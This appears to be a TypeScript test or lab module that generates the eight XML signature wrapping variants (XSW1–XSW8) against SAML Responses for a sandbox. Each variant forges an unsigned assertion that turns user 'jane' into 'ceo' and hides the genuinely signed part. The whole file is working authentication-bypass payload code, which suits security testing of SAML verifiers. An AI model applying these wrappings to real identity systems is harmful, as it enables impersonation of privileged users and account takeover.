/**
 * XML signature wrapping (Somorovsky and others, "On Breaking SAML", 2012; numbered as SAML Raider does): each takes a
 * Response that an honest provider has signed, and returns one in which the signed part is still there, while another
 * one stands where it would be looked for. Written for the XML of src/sandbox/saml/response.ts.
 */

const ASSERTION = /<saml:Assertion[^]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/;

/** Of somebody else, unsigned, under an ID of its own. */
function forged(xml: string): string {
  const unsigned = xml.replaceAll(new RegExp(SIGNATURE, "g"), "");
  return unsigned.replaceAll(' ID="_', ' ID="_forged').replaceAll("jane", "ceo");
}

function assertionOf(xml: string): string {
  return ASSERTION.exec(xml)?.[0] ?? "";
}

function signatureOf(xml: string): string {
  return SIGNATURE.exec(xml)?.[0] ?? "";
}

/** The element with `inner` as its last child. */
function withLast(element: string, inner: string): string {
  return element.replace(/<\/[^<]*>$/, (end) => inner + end);
}

/** The element with `inner` after its Issuer, where a signature has its place. */
function withSignature(element: string, inner: string): string {
  return element.replace(/<\/saml:Issuer>/, (end) => end + inner);
}

/** The signature that is over the Response, or else over the Assertion. */
function outerSignature(xml: string): string {
  return signatureOf(xml);
}

function withAssertions(xml: string, assertions: (original: string, evil: string) => string): string {
  const original = assertionOf(xml);
  return xml.replace(original, () => assertions(original, forged(original)));
}

function withoutSignature(xml: string): string {
  return xml.replace(SIGNATURE, "");
}

export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "XSW1: the original Response within the signature of a forged one": (xml) =>
    withSignature(forged(xml), withLast(outerSignature(xml), withoutSignature(xml))),
  "XSW2: the original Response beside the signature of a forged one": (xml) =>
    withSignature(forged(xml), withoutSignature(xml) + outerSignature(xml)),
  "XSW3: a forged Assertion before the original": (xml) => withAssertions(xml, (original, evil) => evil + original),
  "XSW4: the original within a forged Assertion": (xml) =>
    withAssertions(xml, (original, evil) => withLast(evil, original)),
  "XSW5: a forged Assertion with the signature, and the original behind": (xml) =>
    withAssertions(xml, (original, evil) => withSignature(evil, signatureOf(original)) + withoutSignature(original)),
  "XSW6: the original within the signature of a forged Assertion": (xml) =>
    withAssertions(xml, (original, evil) =>
      withSignature(evil, withLast(signatureOf(original) || outerSignature(xml), withoutSignature(original))),
    ),
  "XSW7: a forged Assertion in Extensions, before the original": (xml) =>
    withAssertions(xml, (original, evil) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
  "XSW8: the original in an Object of the signature of a forged Assertion": (xml) =>
    withAssertions(xml, (original, evil) =>
      withSignature(
        evil,
        withLast(signatureOf(original) || outerSignature(xml), `<ds:Object>${withoutSignature(original)}</ds:Object>`),
      ),
    ),
};
